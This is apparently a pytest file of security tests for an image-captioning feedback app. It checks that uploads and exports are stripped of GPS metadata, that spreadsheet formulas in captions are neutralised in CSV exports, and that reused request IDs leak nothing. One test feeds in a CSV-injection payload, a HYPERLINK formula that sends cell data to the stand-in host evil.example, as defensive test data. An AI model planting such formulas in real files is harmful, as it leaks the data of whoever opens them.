"""Issue 11: the running app attacked through ``gradio_client`` and plain HTTP, one test per point.

(Operator sessions and login lockout, items 3-4, are tested with the accounts work.)
"""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from gradio_client import handle_file
from gradio_client.exceptions import AppError
from PIL import Image
from sqlalchemy import select
from sqlalchemy.orm import Session

from feedback_db.models import Prediction, Upload
from tests.app.conftest import OPERATOR, PHOTOS

pytestmark = pytest.mark.server

METADATA_MARKERS = (b"Exif", b"xmpmeta", b"PhoneCo", b"secret-place")


def gps_of(data: bytes) -> dict:
    with Image.open(io.BytesIO(data)) as im:
        return dict(im.getexif().get_ifd(0x8825))


def jpeg_with_gps(path, *, orientation: int = 6):
    """A phone-style photo: EXIF with GPS and an orientation tag, XMP and a comment."""
    with Image.open(PHOTOS / "chelsea.jpg") as photo:
        image = photo.convert("RGB").resize((120, 80))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneCo"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)})
    image.save(path, "JPEG", exif=exif.tobytes(), xmp=b"<x:xmpmeta>secret-place</x:xmpmeta>",
               comment=b"secret-place")
    return path


def export_zip(client, fmt: str) -> zipfile.ZipFile:
    archive = client.predict(fmt, api_name="/operator_export")
    return zipfile.ZipFile(archive.get("value", archive)["path"])


def test_a_jpeg_with_gps_has_none_after_upload_and_in_exports(running_app, tmp_path):
    photo = jpeg_with_gps(tmp_path / "phone.jpg")
    assert all(marker in photo.read_bytes() for marker in METADATA_MARKERS) and gps_of(photo.read_bytes())
    client = running_app.client()
    details = client.predict(handle_file(str(photo)), "", api_name="/caption")[4]
    with Session(running_app.engine) as s:
        upload = s.get(Upload, s.get(Prediction, details["prediction_id"]).image_sha256)
        relpath, width, height = upload.relpath, upload.width, upload.height
    stored = running_app.blobstore.path(relpath).read_bytes()
    assert not [m for m in METADATA_MARKERS if m in stored] and gps_of(stored) == {}
    with Image.open(io.BytesIO(stored)) as im:
        assert im.size == (80, 120) and not im.getexif()  # orientation 6 applied to the pixels, tag gone
    assert (width, height) == (120, 80)  # the row keeps the size as uploaded

    client.predict(*OPERATOR, api_name="/operator_login")
    for fmt in ("csv", "jsonl"):
        with export_zip(client, fmt) as zf:
            images = [n for n in zf.namelist() if "/images/" in n and not n.endswith("/")]
            assert images
            for name in images:
                data = zf.read(name)
                assert not [m for m in METADATA_MARKERS if m in data] and gps_of(data) == {}, name


def test_a_formula_in_a_corrected_caption_is_neutralised_in_the_csv_export(running_app):
    client = running_app.client()
    client.predict(handle_file(str(PHOTOS / "chelsea.jpg")), "", api_name="/caption")
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    client.predict(4, 4, 4, formula, "@SUM(A1:A9)", "", api_name="/rate_caption")
    client.predict(*OPERATOR, api_name="/operator_login")
    with export_zip(client, "csv") as zf:
        name = next(n for n in zf.namelist() if n.endswith("feedback.csv"))
        rows = list(csv.DictReader(io.TextIOWrapper(zf.open(name), encoding="utf-8", newline="")))
    cells = [row["corrected_caption"] for row in rows if row["corrected_caption"]]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_a_request_id_taken_by_another_client_echoes_nothing_of_theirs(running_app):
    owner, intruder = running_app.client(), running_app.client()
    key = "guessable-key-1"
    mine = owner.predict(handle_file(str(PHOTOS / "chelsea.jpg")), key, api_name="/caption")[4]
    other_photo = next(p for p in sorted(PHOTOS.glob("*.jpg")) if p.name != "chelsea.jpg")
    with pytest.raises(AppError) as refused:
        intruder.predict(handle_file(str(other_photo)), key, api_name="/caption")
    message = str(refused.value)
    assert "already taken" in message
    with Session(running_app.engine) as s:
        sha = s.scalar(select(Prediction.image_sha256).where(Prediction.request_id == key))
    assert sha not in message and "caption" not in message.replace("/caption", "")
    again = owner.predict(handle_file(str(PHOTOS / "chelsea.jpg")), key, api_name="/caption")[4]
    assert again["prediction_id"] == mine["prediction_id"]  # the owner's retry is still idempotent
